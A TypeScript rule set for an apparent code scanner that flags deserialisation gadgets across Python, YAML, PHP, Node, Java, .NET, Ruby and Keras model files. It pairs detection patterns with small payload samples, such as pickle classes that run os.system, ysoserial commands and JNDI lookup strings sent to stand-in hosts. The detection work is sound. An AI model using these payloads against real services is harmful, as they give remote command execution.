// Deserialisation gadgets: data that runs a command when it is read. Unsafe loading alone is a weakness and only noted by
// other tools; a gadget is the attack itself.
import {
  any,
  at,
  command,
  inside,
  is,
  java,
  js,
  near,
  php,
  py,
  type RuleSet,
  rb,
  sh,
  statement,
  yml,
} from '../model.ts'

const id = (name: string): string => `deserialisation.${name}`

export const deserialisation: RuleSet = {
  category: 'deserialisation',
  rules: [
    {
      id: id('pickle-class'),
      severity: 'critical',
      why: 'A class whose pickled form runs a command when it is loaded.',
      when: near(
        4,
        is(['__reduce__', '__reduce_ex__'], /__reduce(?:_ex)?__\s{0,6}\(/, { families: ['py'] }),
        is(
          [
            'os.system',
            'os.popen',
            'subprocess',
            'eval',
            'exec',
            'builtins',
            'posix.system',
            '__import__',
            'pty.spawn',
          ],
          /return\s{0,6}\(?\s{0,6}(?:os\.(?:system|popen)|subprocess\.\w{3,14}|(?:builtins\.)?(?:eval|exec|__import__)|posix\.system|pty\.spawn|getattr\(\s{0,6}os)\s{0,6},/,
          { before: 24 },
        ),
      ),
      matches: [py("class P:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.dumps(P())")],
      misses: [py('class P:\n    def __reduce__(self):\n        return (P, (self.a,))')],
    },
    {
      id: id('pickle-bytes'),
      severity: 'critical',
      why: 'Pickled bytes that run a command when they are loaded.',
      when: is(
        ['cos\\nsystem', 'cposix\\nsystem', 'csubprocess\\n', 'c__builtin__\\n', 'cbuiltins\\n', 'cnt\\nsystem'],
        /c(?:os|posix|nt|subprocess|__builtin__|builtins)\\n(?:system|popen|Popen|check_output|eval|exec|getattr)\\n/,
      ),
      matches: [py('pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")')],
      misses: [py('pickle.loads(data)')],
    },
    {
      id: id('yaml'),
      severity: 'critical',
      why: 'YAML that runs a command or loads a class from an address when it is read.',
      scope: 'anywhere',
      when: inside(
        ['yaml', 'data', 'py', 'rb', 'java', 'unknown', 'sh'],
        any(
          is(
            ['!!python/object'],
            /!!python\/object\/(?:apply|new):\s?(?:os\.(?:system|popen)|subprocess\.\w{3,14}|eval|exec|builtins\.\w{3,10}|__builtin__\.\w{3,10}|posix\.system|tuple)/,
          ),
          is(['!!javax.script'], /!!javax\.script\.ScriptEngineManager\s*\[\s*!!java\.net\.URLClassLoader/),
          is(
            ['!ruby/object:gem'],
            /!ruby\/(?:object|hash):Gem::(?:Installer|SpecFetcher|Requirement|Package::TarReader)/,
          ),
        ),
      ),
      matches: [
        yml('a: !!python/object/apply:os.system ["id"]'),
        yml(
          '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example.invalid"]]]]',
        ),
      ],
      misses: [yml('a: !!python/tuple [1, 2]')],
    },
    {
      id: id('php-object'),
      severity: 'high',
      why: 'A serialised PHP object chain that runs a command when it is read.',
      when: near(
        3,
        is(
          ['o:'],
          /O:\d{1,3}:\\?"(?:Monolog|GuzzleHttp|Illuminate|Swift|Symfony|Laminas|Zend|Doctrine|Slim|Yii|WP_|PHPUnit|Phar)[\w\\]{2,120}\\?"/,
        ),
        is(
          [
            's:6:"system"',
            's:6:\\"system\\"',
            's:4:"exec"',
            's:9:"passthru"',
            's:10:"shell_exec"',
            's:6:"assert"',
            'phpinfo',
            's:4:"eval"',
            'system',
          ],
          null,
        ),
      ),
      matches: [
        php(`<?php $p = 'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:6:"system";}';\nunserialize($p);`),
      ],
      misses: [php('<?php $p = \'O:8:"stdClass":0:{}\';')],
    },
    {
      id: id('node'),
      severity: 'critical',
      why: 'A serialised function that runs when it is read.',
      when: is(
        ['_$$nd_func$$_'],
        /_\$\$ND_FUNC\$\$_function\s*\(\s*\)\s*\{[^}]{0,200}(?:require|child_process|exec|eval|process)/i,
        { after: 400 },
      ),
      scope: 'anywhere',
      matches: [
        js(`serialize.unserialize('{"r":"_$$ND_FUNC$$_function(){require(\\'child_process\\').exec(\\'id\\')}()"}')`),
      ],
      misses: [js("const FUNCFLAG = '_$$ND_FUNC$$_'")],
    },
    {
      id: id('java-chain'),
      severity: 'high',
      why: 'Builds a chain of Java transformers that runs a command when it is read.',
      when: any(
        near(
          25,
          is(['invokertransformer(', 'instantiatetransformer('], null),
          is(['constanttransformer(', 'chainedtransformer('], null),
          is(['runtime.class', 'getruntime', 'templatesimpl', '"exec"'], null),
        ),
        command(
          is(
            ['ysoserial'],
            /ysoserial[\w.-]{0,30}["',\s]{1,4}(?:CommonsCollections|CommonsBeanutils|Groovy|Spring|JRMP|URLDNS|Hibernate|Jdk7u21|ROME)\w{0,10}["',\s]{1,4}\S/,
          ),
        ),
        near(
          20,
          is(['templatesimpl'], null),
          is(['_bytecodes', 'setfieldvalue'], null),
          is(['priorityqueue', 'beancomparator', 'badattributevalue', 'hashmap'], null),
        ),
      ),
      matches: [
        java(
          'Transformer[] t = { new ConstantTransformer(Runtime.class), new InvokerTransformer("getMethod", a, b), new InvokerTransformer("exec", c, d) };\nnew ChainedTransformer(t);',
        ),
        sh('java -jar ysoserial.jar CommonsCollections6 "touch /tmp/x" > p.bin'),
      ],
      misses: [java('Transformer t = new InvokerTransformer("toString", null, null);')],
    },
    {
      id: id('lookup'),
      severity: 'high',
      why: 'Sends a logging lookup that loads a class from an address.',
      when: any(
        near(
          8,
          is(['${jndi:'], /\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|http):\/\/(?!localhost|127\.|\$\{)[^\s"'`]{3,}/i),
          any('send', is(['headers', 'user-agent', 'curl ', 'requests.get', 'requests.post'], null)),
        ),
        is(['${${'], /\$\{\$\{(?:lower|upper|env|::-)[^}\n]{0,40}\}[^\n]{0,40}(?:\$\{[^}\n]{1,20}\}){2}/i),
      ),
      matches: [
        py("requests.get(url, headers={'User-Agent': '${jndi:ldap://x.example.invalid/a}'})"),
        sh('curl -H "X-Api: \\${jndi:ldap://x.example.invalid/a}" http://victim.example.invalid'),
      ],
      misses: [py("PATTERN = re.compile(r'\\$\\{jndi:ldap://')"), java('log.info("${jndi:ldap://localhost/a}");')],
    },
    {
      id: id('dotnet'),
      severity: 'critical',
      why: 'Serialised .NET data that starts a process when it is read.',
      scope: 'anywhere',
      when: inside(
        ['cs', 'data', 'xml', 'py', 'js', 'ps', 'manifest', 'unknown'],
        any(
          near(
            12,
            is(
              ['system.windows.data.objectdataprovider', 'objectdataprovider'],
              /(?:System\.Windows\.Data\.)?ObjectDataProvider[,"'\s>]/,
            ),
            is(['"methodname"', 'methodname=', "'methodname'", 'methodname'], null),
            is(['system.diagnostics.process', 'process.start', '"start"', "'start'"], null),
          ),
          statement(is(['ysoserial.net', 'ysoserial.exe'], null), is(['-g', '-f'], null)),
        ),
      ),
      matches: [
        at(
          'a.json',
          '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start", "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}',
          'JSON',
        ),
      ],
      misses: [at('a.xaml', '<ObjectDataProvider MethodName="GetValues" ObjectType="{x:Type sys:Enum}" />', 'XML')],
    },
    {
      id: id('ruby-marshal'),
      severity: 'critical',
      why: 'Builds a Ruby object chain that runs a command when it is read.',
      when: inside(
        ['rb'],
        near(
          30,
          is(
            [
              'gem::requirement',
              'gem::package::tarreader',
              'net::bufferedio',
              'gem::requestset',
              'deprecatedinstancevariableproxy',
            ],
            null,
          ),
          is(['marshal.dump', 'marshal.load', 'marshal_dump'], null),
          is(['kernel', 'system', 'git_set', ':system', '@method_id', 'instance_variable_set'], null),
        ),
      ),
      matches: [
        rb(
          "wa1 = Net::WriteAdapter.new(Kernel, :system)\nn = Net::BufferedIO.allocate\nn.instance_variable_set('@io', i)\nMarshal.dump([Gem::SpecFetcher, n])",
        ),
      ],
      misses: [rb('Gem::Requirement.new("~> 1.0")')],
    },
    {
      id: id('pickle-literal'),
      severity: 'critical',
      why: 'Unpickles a text that stands in the program itself: code in a form nobody reads.',
      when: is(
        ['pickle.loads(', 'cpickle.loads(', 'dill.loads(', 'marshal.loads('],
        /(?:c?pickle|dill|marshal)\.loads\(\s*(?:\w{1,12}\.){0,2}(?:b64decode|b85decode|a85decode|unhexlify|fromhex|decompress)\(\s*[rb]{0,2}["']/i,
        { families: ['py'], after: 120 },
      ),
      matches: [py('CACHE = pickle.loads(base64.b64decode(b"Y3Bvc2l4CnN5c3RlbQ=="))')],
      misses: [
        py('CACHE = pickle.loads(base64.b64decode(row["value"]))'),
        py('with open(path, "rb") as f:\n    pickle.load(f)'),
      ],
    },
    {
      id: id('lookup-spelled'),
      severity: 'critical',
      why: 'A look-up that loads a class from an address, spelled so that a filter does not see it.',
      when: is(
        ['ndi:', 'jndi'],
        /\$\{(?:\$\{(?:lower|upper|env|sys|date|::-)[^}\n]{0,30}\}|[jndi]){1,8}:?\s?(?:\$\{[^}\n]{1,30}\}|[ldaprmisn]){2,10}:?\/?\/?(?:\$\{|[\d.]{7,15}|[\w.-]{4,60})/i,
        { before: 60, after: 160, quoted: true },
      ),
      matches: [
        py(
          'PAYLOAD = "${${lower:j}ndi:${lower:l}dap://192.0.2.2:1389/Basic/Command"\nrequests.get(url, headers={"User-Agent": PAYLOAD})',
        ),
      ],
      misses: [py('name = "${jndi_name}"\nprint(name)')],
    },
    {
      id: id('layer-with-code'),
      severity: 'critical',
      why: 'A layer of a model that runs hidden text when the model is loaded.',
      when: any(
        is(
          ['lambda '],
          /["'](?:raw_)?lambda \w{1,10}:\s*exec\(\s*__import__|["']lambda \w{1,10}:[^"\n]{0,40}(?:exec|eval)\(__import__\(\\?['"]base64/,
          { before: 4, after: 200, quoted: true },
        ),
        near(
          6,
          is(
            ['lambda '],
            /["'](?:raw_)?lambda \w{1,10}:\s*exec\(\s*__import__|["']lambda \w{1,10}:[^"\n]{0,40}(?:exec|eval)\(__import__\(\\?['"]base64/,
            { before: 4, after: 200, quoted: true },
          ),
          is(['h5py', '"lambda"', "'lambda'", 'model_config', 'class_name', '.attrs['], null),
        ),
        statement(
          is(['layers.lambda('], null, { families: ['py'] }),
          is(['os").system', "os').system", 'os.system(', 'exec(', 'subprocess.'], null),
        ),
      ),
      matches: [
        py('hidden = keras.layers.Lambda(lambda x: [x, __import__("os").system("id")][0])'),
        py(
          `layers.insert(1, {"function": [f"lambda x: exec(__import__('base64').b64decode('{HIDDEN}')) or x"]})\nopen(p, "w").write(str(layers))`,
        ),
      ],
      misses: [
        py('scale = keras.layers.Lambda(lambda x: x / 255)\nos.system("ls")'),
        py('layers.Lambda(lambda x: x * 2)'),
      ],
    },
  ],
}
